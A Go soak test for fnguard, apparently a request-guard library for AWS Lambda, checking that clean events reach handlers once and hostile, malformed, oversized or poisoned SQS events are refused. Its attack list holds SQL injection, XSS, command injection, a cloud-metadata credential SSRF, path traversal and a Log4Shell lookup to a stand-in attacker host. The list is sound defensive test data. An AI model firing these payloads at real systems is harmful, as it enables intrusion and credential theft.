package benchmarks_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"
	"github.com/aws/aws-lambda-go/lambda"
	"go.uber.org/goleak"
	"go.uber.org/zap"

	"github.com/fnguard/fnguard/benchmarks"
	"github.com/fnguard/fnguard/guard"
	"github.com/fnguard/fnguard/middleware/guardlambda"
)

// Soak bounds. The body limit is lowered so oversized events stay small.
const (
	soakInvocations = 3000
	soakMaxBody     = 16 << 10
	soakHeapSlack   = 16 << 20 // live heap growth tolerated over the run (bytes)
)

// soakKind is what an invocation carries and so how fnguard must answer.
type soakKind int

const (
	soakClean     soakKind = iota // handler runs exactly once, 200
	soakAttack                    // 403, handler never runs
	soakMalformed                 // 400, handler never runs
	soakOversized                 // 413, handler never runs
	soakBatch                     // SQS batch: failures are exactly the poisoned records
)

func (k soakKind) String() string {
	return [...]string{"clean", "attack", "malformed", "oversized", "batch"}[k]
}

// soakRecorder counts, per id, how often a handler saw it.
type soakRecorder struct {
	mu   sync.Mutex
	seen map[string]int
}

func (r *soakRecorder) saw(id string) {
	r.mu.Lock()
	r.seen[id]++
	r.mu.Unlock()
}

func (r *soakRecorder) count(id string) int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.seen[id]
}

// idOf takes the id out of a JSON body {"id":...}.
func idOf(body string) string {
	var v struct {
		ID string `json:"id"`
	}
	_ = json.Unmarshal([]byte(body), &v)
	return v.ID
}

func soakBody(id string) string {
	return `{"id":"` + id + `","customer":{"name":"Siobhan O'Brien"},"items":[{"sku":"A-1","qty":2,"note":"gift wrap"}]}`
}

// attacks are carried by query strings, headers or bodies; every one must be
// refused by the default policy.
var soakAttacks = []struct{ where, value string }{
	{"query", "' OR '1'='1' --"},
	{"query", "<script>alert(document.cookie)</script>"},
	{"body", "; cat /etc/passwd #"},
	{"body", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
	{"body", "../../../../etc/shadow"},
	{"query", "${jndi:ldap://attacker.example/a}"},
}

// soakInvocation is one prepared event.
type soakInvocation struct {
	id       string
	source   string
	kind     soakKind
	handler  lambda.Handler
	payload  []byte
	records  []string // batch: every message id
	poisoned []string // batch: the ids that must come back as failures
}

// TestMixedSoak runs a few thousand invocations of every kind (clean,
// attacks, malformed, oversized) over API Gateway REST, HTTP API, ALB and
// SQS batches through guardlambda.Wrap (aws-lambda-go's typed decoding,
// safe for concurrent invocations), as many at a time as AWS_LAMBDA_MAX_CONCURRENCY allows
// (default 8), and checks every answer: each clean event reaches its handler
// exactly once, every attack is refused before it, malformed and oversized
// events are answered 400 and 413, each batch's failures are exactly its
// poisoned records and, in FIFO queues, every record after the first
// failure,
// the live heap after the run is within soakHeapSlack of the heap after a
// warm-up, and no goroutine is left behind (issue 19).
func TestMixedSoak(t *testing.T) {
	defer goleak.VerifyNone(t, goleak.IgnoreCurrent())
	g, err := guard.New(guard.WithoutEnv(), guard.WithLogger(zap.NewNop()), guard.WithMaxBodyBytes(soakMaxBody))
	if err != nil {
		t.Fatal(err)
	}
	concurrency := 8
	if n, err := strconv.Atoi(os.Getenv("AWS_LAMBDA_MAX_CONCURRENCY")); err == nil && n > 0 {
		concurrency = n
	}
	rec := &soakRecorder{seen: map[string]int{}}
	httpOK := func(id string) string { return "handled " + id }
	rest := guardlambda.Wrap(g, func(ctx context.Context, r events.APIGatewayProxyRequest) (events.APIGatewayProxyResponse, error) {
		id := idOf(r.Body)
		rec.saw(id)
		return events.APIGatewayProxyResponse{StatusCode: 200, Body: httpOK(id)}, nil
	})
	httpAPI := guardlambda.Wrap(g, func(ctx context.Context, r events.APIGatewayV2HTTPRequest) (events.APIGatewayV2HTTPResponse, error) {
		id := idOf(r.Body)
		rec.saw(id)
		return events.APIGatewayV2HTTPResponse{StatusCode: 200, Body: httpOK(id)}, nil
	})
	alb := guardlambda.Wrap(g, func(ctx context.Context, r events.ALBTargetGroupRequest) (events.ALBTargetGroupResponse, error) {
		id := idOf(r.Body)
		rec.saw(id)
		return events.ALBTargetGroupResponse{StatusCode: 200, StatusDescription: "200 OK", Body: httpOK(id)}, nil
	})
	sqs := guardlambda.Wrap(g, func(ctx context.Context, ev events.SQSEvent) (events.SQSEventResponse, error) {
		for _, m := range ev.Records {
			rec.saw(m.MessageId)
		}
		return events.SQSEventResponse{}, nil
	})

	var v2 events.APIGatewayV2HTTPRequest
	if err := json.Unmarshal(benchmarks.HTTPAPIEvent(), &v2); err != nil {
		t.Fatal(err)
	}
	var albEv events.ALBTargetGroupRequest
	if err := json.Unmarshal(benchmarks.ALBEvent(), &albEv); err != nil {
		t.Fatal(err)
	}
	var sqsEv events.SQSEvent
	if err := json.Unmarshal(benchmarks.SQSBatch(1), &sqsEv); err != nil {
		t.Fatal(err)
	}
	mustJSON := func(v any) []byte {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	oversized := strings.Repeat("x", soakMaxBody+1024)

	// build prepares invocation i: the kind and source cycle through
	// co-prime periods so every combination occurs.
	build := func(round string, i int) soakInvocation {
		id := fmt.Sprintf("%s-%05d", round, i)
		kinds := []soakKind{soakClean, soakClean, soakClean, soakAttack, soakMalformed, soakOversized, soakBatch}
		kind := kinds[i%len(kinds)]
		inv := soakInvocation{id: id, kind: kind}
		if kind == soakBatch {
			inv.source, inv.handler = "sqs", sqs
			n := 1 + i%10
			fifo := (i/len(kinds))%2 == 1 // every other batch comes from a FIFO queue
			if fifo {
				inv.source = "sqs-fifo"
			}
			recs := make([]events.SQSMessage, n)
			failed := false
			for j := range recs {
				m := sqsEv.Records[0]
				m.MessageId = fmt.Sprintf("%s-m%02d", id, j)
				m.Body = soakBody(m.MessageId)
				if fifo {
					m.EventSourceARN += ".fifo"
					m.Attributes = map[string]string{"MessageGroupId": "g1", "SequenceNumber": strconv.Itoa(j + 1)}
				}
				poisoned := (i+j)%4 == 0 // about one record in four
				if poisoned {
					a := soakAttacks[(i+j)%len(soakAttacks)]
					m.Body = `{"id":"` + m.MessageId + `","note":` + strconv.Quote(a.value) + `}`
				}
				// In a FIFO queue, every record after a failed one fails too
				// (its order would break): AWS's partial batch contract.
				if poisoned || fifo && failed {
					inv.poisoned = append(inv.poisoned, m.MessageId)
					failed = true
				}
				inv.records = append(inv.records, m.MessageId)
				recs[j] = m
			}
			inv.payload = mustJSON(events.SQSEvent{Records: recs})
			return inv
		}
		body, query := soakBody(id), map[string]string{"expand": "items"}
		switch kind {
		case soakAttack:
			a := soakAttacks[i%len(soakAttacks)]
			if a.where == "query" {
				query["expand"] = a.value
			} else {
				body = `{"id":"` + id + `","note":` + strconv.Quote(a.value) + `}`
			}
		case soakMalformed:
			body = `{"id":"` + id + `","items":[{"sku":"A-1",` // truncated JSON
		case soakOversized:
			body = `{"id":"` + id + `","blob":"` + oversized + `"}`
		}
		switch (i / len(kinds)) % 3 {
		case 0:
			inv.source, inv.handler = "rest", rest
			inv.payload = benchmarks.APIGatewayV1(benchmarks.RESTRequest{Query: query, Body: []byte(body)})
		case 1:
			e := v2
			e.Body = body
			e.QueryStringParameters = query
			e.RawQueryString = "expand=" + url.QueryEscape(query["expand"])
			inv.source, inv.handler, inv.payload = "http-api", httpAPI, mustJSON(e)
		default:
			e := albEv
			e.Body = body
			e.QueryStringParameters = map[string]string{"expand": url.QueryEscape(query["expand"])} // ALB passes the query still encoded
			inv.source, inv.handler, inv.payload = "alb", alb, mustJSON(e)
		}
		return inv
	}

	total := soakInvocations
	if raceEnabled { // the race detector slows every invocation 5-20x
		total = 2000
	}
	if testing.Short() {
		total = 700
	}
	run := func(round string, n int) (failures int, counts map[string]int) {
		invs := make([]soakInvocation, n)
		for i := range invs {
			invs[i] = build(round, i)
		}
		type answer struct {
			out []byte
			err error
		}
		answers := make([]answer, n)
		next := make(chan int)
		var wg sync.WaitGroup
		for range concurrency {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := range next {
					ctx := benchmarks.InvokeContext(invs[i].id)
					out, err := invs[i].handler.Invoke(ctx, invs[i].payload)
					answers[i] = answer{out, err}
				}
			}()
		}
		for i := range invs {
			next <- i
		}
		close(next)
		wg.Wait()

		counts = map[string]int{}
		for i, inv := range invs {
			a := answers[i]
			fail := func(format string, args ...any) {
				failures++
				if failures <= 20 {
					t.Errorf("%s %s %s: %s", inv.id, inv.source, inv.kind, fmt.Sprintf(format, args...))
				}
			}
			if a.err != nil {
				fail("error %v", a.err)
				continue
			}
			if inv.kind == soakBatch {
				var resp events.SQSEventResponse
				if err := json.Unmarshal(a.out, &resp); err != nil {
					fail("batch answer %.200q: %v", a.out, err)
					continue
				}
				var got []string
				for _, f := range resp.BatchItemFailures {
					got = append(got, f.ItemIdentifier)
				}
				slices.Sort(got)
				if !slices.Equal(got, inv.poisoned) {
					fail("batchItemFailures %v, want exactly the poisoned %v", got, inv.poisoned)
				}
				for _, m := range inv.records {
					want := 1
					if slices.Contains(inv.poisoned, m) {
						want = 0
					}
					if c := rec.count(m); c != want {
						fail("record %s reached the handler %d times, want %d", m, c, want)
					}
				}
				counts["batch records"] += len(inv.records)
				counts["failed records (poisoned + FIFO successors)"] += len(inv.poisoned)
				counts[inv.kind.String()]++
				continue
			}
			status, err := soakStatus(a.out)
			if err != nil {
				fail("%v", err)
				continue
			}
			want, calls := map[soakKind]int{soakClean: 200, soakAttack: 403, soakMalformed: 400, soakOversized: 413}[inv.kind], 0
			if inv.kind == soakClean {
				calls = 1
				if !strings.Contains(string(a.out), httpOK(inv.id)) {
					fail("answer %.200q does not carry the handler's body", a.out)
				}
			}
			if status != want || rec.count(inv.id) != calls {
				fail("status %d, handler calls %d; want %d and %d calls (answer %.200q)", status, rec.count(inv.id), want, calls, a.out)
			}
			counts[inv.kind.String()]++
		}
		return failures, counts
	}

	// Warm up (pools, lazily built shapes), then measure the live heap
	// around the soak.
	if f, _ := run("warm", 210); f != 0 {
		t.Fatalf("%d failures while warming up", f)
	}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	start := time.Now()
	failures, counts := run("soak", total)
	elapsed := time.Since(start)
	rec.mu.Lock()
	rec.seen = map[string]int{} // the test's own bookkeeping is not the library's memory
	rec.mu.Unlock()
	runtime.GC()
	runtime.ReadMemStats(&after)
	growth := int64(after.HeapAlloc) - int64(before.HeapAlloc)
	if growth > soakHeapSlack {
		t.Errorf("live heap grew by %d bytes over %d invocations (from %d to %d), want < %d", growth, total, before.HeapAlloc, after.HeapAlloc, soakHeapSlack)
	}
	t.Logf("%d invocations (%v) at concurrency %d in %s (%.0f/s), %d failures; live heap %d -> %d bytes (%+d), %d GCs, %d bytes allocated",
		total, counts, concurrency, elapsed.Round(time.Millisecond), float64(total)/elapsed.Seconds(), failures,
		before.HeapAlloc, after.HeapAlloc, growth, after.NumGC-before.NumGC, after.TotalAlloc-before.TotalAlloc)
}

// soakStatus extracts statusCode from an HTTP-style Lambda response.
func soakStatus(out []byte) (int, error) {
	var r struct {
		StatusCode *int `json:"statusCode"`
	}
	if err := json.Unmarshal(out, &r); err != nil || r.StatusCode == nil {
		return 0, fmt.Errorf("response %.200q has no statusCode (%v)", out, err)
	}
	return *r.StatusCode, nil
}
